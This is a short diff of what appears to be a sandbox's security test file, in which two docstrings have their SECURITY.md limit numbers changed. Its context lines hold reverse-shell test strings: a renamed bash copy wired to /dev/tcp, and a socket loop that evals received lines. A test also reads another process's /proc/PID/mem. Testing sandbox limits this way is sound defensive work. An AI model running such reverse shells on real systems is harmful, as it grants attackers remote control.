@@ -223,7 +223,7 @@ def the_attack_works_without_the_rule(place):
 
 @test
 def limit_of_the_shells(place):
-    """SECURITY.md, limit 43: a shell under another name is not known for one, and code that runs lines is the app's."""
+    """SECURITY.md, limit 46: a shell under another name is not known for one, and code that runs lines is the app's."""
     for command in ("cp /bin/bash /tmp/worker; bash -c 'exec /tmp/worker 0<>/dev/tcp/127.0.0.1/PORT 1>&0'",
                     "bash -c 'exec 3<>/dev/tcp/127.0.0.1/PORT; read -r line <&3; eval \"$line\" >&3'"):
         outside = Outside()
@@ -366,7 +366,7 @@ print("done ok")
 
 @test
 def limit_of_reading(place):
-    """SECURITY.md, limit 44: /proc/PID/mem can be read, as all that is not hidden."""
+    """SECURITY.md, limit 47: /proc/PID/mem can be read, as all that is not hidden."""
     result = place.python(r"""
 import subprocess, time
 other = subprocess.Popen(["sleep", "60"])
